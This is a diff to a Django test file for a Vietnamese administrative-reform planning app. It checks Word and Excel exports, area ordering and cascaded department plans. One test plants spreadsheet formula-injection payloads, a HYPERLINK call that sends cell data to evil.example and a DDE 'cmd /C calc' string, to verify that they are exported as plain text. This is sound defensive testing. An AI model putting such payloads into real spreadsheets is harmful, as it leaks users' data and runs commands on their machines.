@@ -26,6 +26,9 @@ from cchc.documents.models import PlanTemplate
 from cchc.documents.readers import read_document
 from cchc.documents.tests.factories import restore, scratch_media, upload
 from cchc.documents.tests.support import FILES
+from cchc.plans import services as plan_services
+from cchc.plans.choices import AREA_ORDER
+from cchc.plans.models import PlanArea
 from cchc.plans.services import plan_issue
 
 ARTIFACTS = Path(__file__).resolve().parents[3] / "test-artifacts"
@@ -45,6 +48,11 @@ def test_local_governments_head_the_document_as_their_peoples_committee():
 
 def _docx_text(data: bytes) -> list[str]:
     return [paragraph.text for paragraph in docx.Document(io.BytesIO(data)).paragraphs]
+
+
+def _appendix_rows(data: bytes) -> list[list[str]]:
+    """(STT, Nhiệm vụ) of each row of the appendix table below its header."""
+    return [[cell.text for cell in row.cells][:2] for row in docx.Document(io.BytesIO(data)).tables[-1].rows[1:]]
 
 
 class PlanExportTests(TestCase):
@@ -96,19 +104,27 @@ class PlanExportTests(TestCase):
         self.assertEqual([c.text for c in table.rows[0].cells], ["STT", "Nhiệm vụ", "Sản phẩm", "Đơn vị chủ trì",
                                                                  "Đơn vị phối hợp", "Thời gian thực hiện", "Kinh phí"])
         self.assertEqual(len(table.rows), 1 + 9 + 43)
-        self.assertEqual(table.rows[1].cells[0].text, "I")
-        self.assertEqual(table.rows[1].cells[1].text, "Cải cách thể chế")
-        products = [p.text for p in table.rows[7].cells[2].paragraphs]  # task 6 of area I: several products
-        self.assertEqual(products, ["Các kế hoạch", "Thông báo", "Quyết định", "Báo cáo"])
+        # the seed lists "Cải cách thể chế" first and "Công tác chỉ đạo, điều hành" eighth: the export follows the
+        # national order, numbers the areas I, II, … and the tasks 1 to 43 in that order
+        area_rows = [(row.cells[0].text, row.cells[1].text) for row in table.rows[1:] if not row.cells[0].text.isdigit()]
+        self.assertEqual([number for number, _title in area_rows], ["I", "II", "III", "IV", "V", "VI", "VII", "VIII", "IX"])
+        self.assertEqual(area_rows[0][1], self.plan.areas.get(code="direction").title)
+        self.assertEqual(area_rows[1][1], "Cải cách thể chế")
+        numbers = [row.cells[0].text for row in table.rows[1:] if row.cells[0].text.isdigit()]
+        self.assertEqual(numbers, [str(n) for n in range(1, 44)])
+        sixth = self.plan.tasks.get(area__code="institutions", number="6")  # task 6 of the seed: several products
+        row = next(row for row in table.rows if row.cells[1].text == sixth.title)
+        self.assertEqual([p.text for p in row.cells[2].paragraphs], ["Các kế hoạch", "Thông báo", "Quyết định", "Báo cáo"])
 
     def test_exporting_then_importing_gives_back_the_same_tasks(self):
         draft = extract_plan(read_document(self.docx(), "ke-hoach.docx"))
-        tasks = self.plan.tasks.select_related("area").order_by("position")
+        tasks = sorted(self.plan.tasks.select_related("area"), key=lambda t: (AREA_ORDER[t.area.code], t.area.position,
+                                                                               t.position))
         self.assertEqual(
             [(t.area_code, t.number, t.title, t.products, t.lead, t.coordinators, t.timeframe.text or "", t.budget or "")
              for t in draft.tasks],
-            [(t.area.code, t.number, t.title, t.products, t.lead_text, t.coordinators_text.split("; "), t.timeframe,
-              t.budget_source) for t in tasks],
+            [(t.area.code, str(n), t.title, t.products, t.lead_text, t.coordinators_text.split("; "), t.timeframe,
+              t.budget_source) for n, t in enumerate(tasks, 1)],
         )
         self.assertEqual((draft.title, draft.year, draft.number, draft.signer.name), (
             self.plan.title, 2024, "1711/KH-SXD", "Vũ Văn Hưng"))
@@ -125,8 +141,11 @@ class PlanExportTests(TestCase):
         self.assertEqual((sheet.freeze_panes, sheet.auto_filter.ref, sheet.max_row), ("A2", "A1:L44", 44))
         self.assertEqual((sheet.column_dimensions["C"].width, sheet.column_dimensions["A"].width), (60, 6))
         first = [c.value for c in sheet[2]]
-        self.assertEqual(first[:3], ["1", "I. Cải cách thể chế", self.plan.tasks.order_by("position").first().title])
-        self.assertEqual(first[8:], ["Thường xuyên", "Kinh phí Thường xuyên", "Chưa triển khai", 0])
+        direction = self.plan.areas.get(code="direction")
+        task = direction.tasks.order_by("position").first()
+        self.assertEqual(first[:3], ["1", f"I. {direction.title}", task.title])
+        self.assertEqual(first[9:], [task.budget_source, "Chưa triển khai", 0])
+        self.assertFalse(task.budget_source.startswith("Kinh phí"))
         due = [row[7].value for row in sheet.iter_rows(min_row=2) if row[7].value]
         self.assertIsInstance(due[0], dt.datetime)
         self.assertEqual(sheet["H2"].number_format, "DD/MM/YYYY")
@@ -210,7 +229,7 @@ class PlanExportTests(TestCase):
         self.assertEqual(self.client.get(reverse("documents:template_download", args=[template.pk])).status_code, 404)
 
     def test_text_that_starts_like_a_formula_is_written_as_text_in_the_task_list(self):
-        task = self.plan.tasks.order_by("position").first()
+        task = self.plan.tasks.filter(area__code="direction").order_by("position").first()  # the first row: national order
         type(task).objects.filter(pk=task.pk).update(title='=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
                                                      lead_text="@SUM(1+1)*cmd|' /C calc'!A0")
         response = self.client.get(reverse("documents:plan_xlsx", args=[self.plan.pk]))
@@ -251,3 +270,58 @@ def convert_to_pdf(soffice: str, source: Path) -> Path:
     finally:
         shutil.rmtree(profile, ignore_errors=True)
     return source.with_suffix(".pdf")
+
+
+class CascadedPlanExportTests(TestCase):
+    """A department's plan whose areas were entered out of the national order, one named by its code, with
+    tasks taken up from the province's plan keeping the province's numbers (the demo city's Sở Xây dựng 2026)."""
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.world = build_world()
+        admin, focal = cls.world.users["admin"], cls.world.users["focal"]
+        dept = cls.world.dept_a
+        dept.short_name = "SXD"
+        dept.save(update_fields=["short_name"])
+        province = plan_services.plan_create(unit=cls.world.province, year=2026, title="CCHC tỉnh 2026", actor=admin)
+        procedures = plan_services.area_create(plan=province, code="procedures", local_number="3", title="Cải cách TTHC",
+                                               actor=admin)
+        for number in ("3", "4"):
+            plan_services.task_create(plan=province, area=procedures, number=number, title=f"Nhiệm vụ tỉnh số {number}",
+                                      lead_unit=cls.world.home_affairs, timeframe="Quý III/2026", actor=admin)
+        plan_issue(plan=province, number="5/KH-UBND", issued_on=dt.date(2025, 12, 20), signer_title="Chủ tịch", actor=admin)
+        cls.plan = plan_services.plan_create(unit=dept, year=2026, title="Cải cách hành chính Sở Xây dựng năm 2026",
+                                             place="Nam Định", number="/KH-SXD", actor=focal)
+        digital = PlanArea.objects.create(plan=cls.plan, code="digital_government", title="digital_government", position=1)
+        direction = plan_services.area_create(plan=cls.plan, code="direction", local_number="2", title="Công tác chỉ đạo",
+                                              actor=focal)
+        plan_services.task_create(plan=cls.plan, area=digital, number="1", title="Số hóa hồ sơ quy hoạch",
+                                  timeframe="Quý IV/2026", actor=focal)
+        plan_services.task_create(plan=cls.plan, area=direction, number="2", title="Kế hoạch tuyên truyền",
+                                  timeframe="Quý I/2026", actor=focal)
+        plan_services.task_cascade(task=province.tasks.get(number="3"), units=[dept], actor=cls.world.users["steering"])
+        plan_services.task_cascade(task=province.tasks.get(number="4"), units=[dept], actor=cls.world.users["steering"])
+
+    def setUp(self):
+        self.client.force_login(self.world.users["focal"])
+
+    def export(self) -> bytes:
+        response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]))
+        self.assertEqual(response.status_code, 200)
+        return response.content
+
+    def test_the_appendix_follows_the_national_order_names_every_area_and_numbers_its_tasks(self):
+        self.assertEqual(_appendix_rows(self.export()), [
+            ["I", "Công tác chỉ đạo"], ["1", "Kế hoạch tuyên truyền"],
+            ["II", "Cải cách TTHC"], ["2", "Nhiệm vụ tỉnh số 3"], ["3", "Nhiệm vụ tỉnh số 4"],
+            ["III", "Xây dựng và phát triển Chính phủ điện tử, Chính phủ số"], ["4", "Số hóa hồ sơ quy hoạch"],
+        ])
+        text = _docx_text(self.export())
+        self.assertFalse([line for line in text if "digital_government" in line])
+        self.assertIn("3. Xây dựng và phát triển Chính phủ điện tử, Chính phủ số: 1 nhiệm vụ.", text)
+
+    def test_a_draft_is_headed_with_the_units_own_symbol_and_place(self):
+        word = docx.Document(io.BytesIO(self.export()))
+        header = [p.text for cell in word.tables[0].rows[0].cells for p in cell.paragraphs]
+        self.assertEqual(header[3], "Số:       /KH-SXD")
+        self.assertEqual(header[-1], "Thử Nghiệm, ngày      tháng      năm 2026")
